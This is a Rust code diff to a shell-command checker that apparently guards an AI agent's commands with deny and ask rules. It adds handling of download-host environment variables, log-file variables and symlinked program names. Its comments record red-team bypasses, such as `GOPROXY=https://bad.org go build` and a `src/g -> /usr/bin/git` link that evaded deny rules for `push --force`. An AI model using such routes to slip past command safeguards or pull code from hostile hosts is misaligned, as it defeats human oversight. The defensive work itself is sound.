@@ -115,6 +115,105 @@ impl Walk {
     }
 }
 
+/// Where a program goes because of its leading assignments: `https_proxy=http://x curl …`
+/// through the proxy (a copied segment's effects have it already), `GOPROXY=…`,
+/// `PIP_INDEX_URL=…` to the registry.
+fn env_destinations(rd: &SegmentReadings, effects: &mut [Effects]) {
+    // `https_proxy=http://x curl …`: the request goes through the proxy (a copied
+    // segment's effects have it already).
+    for (name, value) in rd.env.iter() {
+        let lower = name.to_ascii_lowercase();
+        if lower.ends_with("_proxy") {
+            for e in effects.iter_mut().filter(|e| e.net != effects::Net::No) {
+                e.urls.push(String::from_utf8_lossy(value).into_owned());
+            }
+        } else if downloads_from(&lower) {
+            // `GOPROXY=https://bad.org go build`, `PIP_INDEX_URL=… pip install`: the
+            // program downloads from there (red team 8, C8-nethost).
+            let mut urls = effects::net::hosts_in(&String::from_utf8_lossy(value));
+            if value.contains(&UNKNOWN) || value.contains(&WILD) {
+                urls.push(String::new());
+            }
+            for e in effects.iter_mut().filter(|e| !e.program.is_empty()) {
+                if !urls.is_empty() {
+                    e.urls.extend(urls.iter().cloned());
+                    e.net = effects::Net::Yes;
+                }
+            }
+        }
+    }
+}
+
+/// Files named by leading assignments (red team 8, C8-envoutput, C8-derivedname): a log or
+/// report the program writes there (`PIP_LOG=F pip list`, `FFREPORT=file=F ffmpeg`,
+/// `SSLKEYLOGFILE=F`, `*_LOG_FILE=F`), the backup suffix of `cp -b`/`mv -b`
+/// (`SIMPLE_BACKUP_SUFFIX`, also from polc's own environment, which the agent's shell
+/// shares), and any other value that is a path (named: self-protection asks for a
+/// protected one).
+fn env_files(rd: &SegmentReadings, effects: &mut [Effects]) {
+    let mut backup: Option<Vec<u8>> =
+        std::env::var_os("SIMPLE_BACKUP_SUFFIX").map(|v| v.as_encoded_bytes().to_vec());
+    for (name, value) in rd.env.iter() {
+        let lower = name.to_ascii_lowercase();
+        let text = String::from_utf8_lossy(value);
+        let pathlike = !value.is_empty()
+            && !text.contains("://")
+            && (value.contains(&b'/') || value.contains(&b'.'))
+            && !value.contains(&b',')
+            && !value.contains(&b'=');
+        let written: Option<Vec<u8>> = if lower == "simple_backup_suffix" {
+            backup = Some(value.clone());
+            None
+        } else if lower == "ffreport" {
+            text.split(':')
+                .find_map(|kv| kv.strip_prefix("file="))
+                .map(|f| f.as_bytes().to_vec())
+        } else if pathlike
+            && (lower == "sslkeylogfile"
+                || lower.ends_with("_log")
+                || lower.ends_with("_log_file")
+                || lower.ends_with("_logfile")
+                || lower.ends_with("histfile")
+                || (lower.starts_with("pip_") && lower.contains("log")))
+        {
+            Some(value.clone())
+        } else {
+            None
+        };
+        for e in effects.iter_mut().filter(|e| !e.program.is_empty()) {
+            match &written {
+                Some(f) => e.file(f.clone(), effects::Access::Write, false),
+                None if pathlike && value.contains(&b'/') => {
+                    e.file(value.clone(), effects::Access::Unknown, false)
+                }
+                None => {}
+            }
+        }
+    }
+    if let Some(suffix) = backup {
+        for (e, stage) in effects.iter_mut().zip(&rd.stages) {
+            effects::env_backups(e, stage, &suffix);
+        }
+    }
+}
+
+/// Environment variables (lower-cased) that name where a program downloads from: package
+/// indexes, registries, module proxies and mirrors.
+fn downloads_from(lower: &str) -> bool {
+    matches!(
+        lower,
+        "goproxy" | "gosumdb" | "goflags" | "rustup_dist_server" | "rustup_update_root"
+    ) || lower.ends_with("_index_url")
+        || lower.ends_with("_index")
+        || lower.ends_with("_registry")
+        || lower.ends_with("registry_url")
+        || lower.ends_with("_mirror")
+        || lower.starts_with("npm_config_")
+        || lower.starts_with("yarn_")
+        || lower.starts_with("cargo_registries_")
+        || lower.starts_with("bundle_mirror")
+}
+
 fn push_unique(v: &mut Vec<String>, s: &str) {
     if !v.iter().any(|x| x == s) {
         v.push(s.to_string());
@@ -123,6 +222,25 @@ fn push_unique(v: &mut Vec<String>, s: &str) {
 
 /// Walk a command. Never fails: what cannot be read is unattestable.
 pub fn walk(command: &str) -> Walk {
+    walk_resolving(command, &|_, _| None)
+}
+
+/// What a program word that names a file on disk runs: the path it resolves to through
+/// symbolic links when that file's name is another program's (`src/g` → `/usr/bin/git`);
+/// `None` when it is not a link, does not exist or keeps its name. The second argument is
+/// the literal folders the command `cd`s into before it (the word may be relative to any).
+/// The walk itself reads no file: the runtime gives this (`runtime::links`), relative to
+/// the call's folder.
+pub type Resolve<'a> = &'a dyn Fn(&[u8], &[Vec<u8>]) -> Option<Vec<u8>>;
+
+/// Program words resolved through links in one command, at most (each is a system call).
+const MAX_LINKED_PROGRAMS: usize = 16;
+
+/// [`walk`], reading a program reached through a symbolic link on disk as the program it
+/// runs as well (red team 8, C8-proglink: with `src/g -> /usr/bin/git`, `src/g push --force`
+/// was an unknown program `g`). The target's segment is one level deeper and deny-only: deny
+/// and ask rules and self-protection read it; allow rules still need the command as written.
+pub fn walk_resolving(command: &str, resolve: Resolve<'_>) -> Walk {
     let parsed = parse(command);
     let mut global: Vec<String> = parsed.unattestable.iter().map(|s| s.to_string()).collect();
     let mut work: Vec<Segment> = parsed.segments;
@@ -133,6 +251,8 @@ pub fn walk(command: &str) -> Walk {
     let mut rebinds: Vec<(Vec<u8>, String)> = Vec::new();
     let mut rebound: Vec<(usize, usize)> = Vec::new();
     let mut speculative = 0usize;
+    let mut linked = 0usize;
+    let mut dirs: Vec<Vec<u8>> = Vec::new();
     // A segment equal to one already read (`ls x; ls x; …`, the same `$(…)` 4,000 times) has
     // the same readings and effects: both are functions of the segment alone (issue 12,
     // item 6: 10,000 equal segments cost 10,000 analyses). Keyed by the text, checked whole.
@@ -173,14 +293,9 @@ pub fn walk(command: &str) -> Walk {
             {
                 speculative += unknown_program_runs(&seg, &mut work);
             }
-            // `https_proxy=http://x curl …`: the request goes through the proxy (a copied
-            // segment's effects have it already).
-            for (name, value) in rd.env.iter().filter(|_| fresh) {
-                if name.to_ascii_lowercase().ends_with("_proxy") {
-                    for e in effects.iter_mut().filter(|e| e.net != effects::Net::No) {
-                        e.urls.push(String::from_utf8_lossy(value).into_owned());
-                    }
-                }
+            if fresh {
+                env_destinations(&rd, &mut effects);
+                env_files(&rd, &mut effects);
             }
             let redirects = redirect_uses(&seg);
             let uses = effects.iter().map(|e| e.files.len()).sum::<usize>() + redirects.len();
@@ -188,6 +303,18 @@ pub fn walk(command: &str) -> Walk {
                 rd.unattestable.push("more than 1,024 paths in one command");
             }
             rebinds_of(&seg, &rd, &mut rebinds);
+            if fresh && linked < MAX_LINKED_PROGRAMS {
+                linked += linked_programs(&seg, &rd, (resolve, &dirs), &mut work, &mut global);
+            }
+            for d in effects.iter().flat_map(|e| e.chdir.iter()) {
+                if dirs.len() < 8
+                    && !d.contains(&WILD)
+                    && !d.contains(&UNKNOWN)
+                    && !dirs.contains(d)
+                {
+                    dirs.push(d.clone());
+                }
+            }
             if fresh {
                 seen.insert(seg.text.clone(), out.len());
             }
@@ -251,6 +378,49 @@ fn unknown_program_runs(seg: &Segment, work: &mut Vec<Segment>) -> usize {
         added += 1;
     }
     added
+}
+
+/// Each stage whose program word is a path (`src/g`, `./g`, `/opt/x/g`) that `resolve` finds
+/// to be a link to another program: the stage again under the target's path, as a deny-only
+/// segment one level deeper (see [`walk_resolving`]). Returns the number of words resolved.
+fn linked_programs(
+    seg: &Segment,
+    rd: &SegmentReadings,
+    (resolve, dirs): (Resolve<'_>, &[Vec<u8>]),
+    work: &mut Vec<Segment>,
+    global: &mut Vec<String>,
+) -> usize {
+    let mut n = 0;
+    for stage in &rd.stages {
+        let Some(prog) = stage.first() else { continue };
+        if !prog.contains(&b'/') || prog.iter().any(|&b| b == WILD || b == UNKNOWN) {
+            continue;
+        }
+        n += 1;
+        let Some(target) = resolve(prog, dirs) else {
+            continue;
+        };
+        let mut script = sh_quote(&target);
+        for a in &stage[1..] {
+            script.push(' ');
+            script.push_str(&sh_quote(a));
+        }
+        let p = parse(&script);
+        for u in p.unattestable {
+            push_unique(global, u);
+        }
+        for mut s in p.segments {
+            if work.len() >= MAX_SEGMENTS || seg.depth + 1 > MAX_DEPTH {
+                push_unique(global, "nesting deeper than 32");
+                break;
+            }
+            s.depth += seg.depth + 1;
+            s.deny_only = true;
+            s.speculative |= seg.speculative;
+            work.push(s);
+        }
+    }
+    n
 }
 
 /// A path through a symbolic link made earlier in the command is also named at the link's
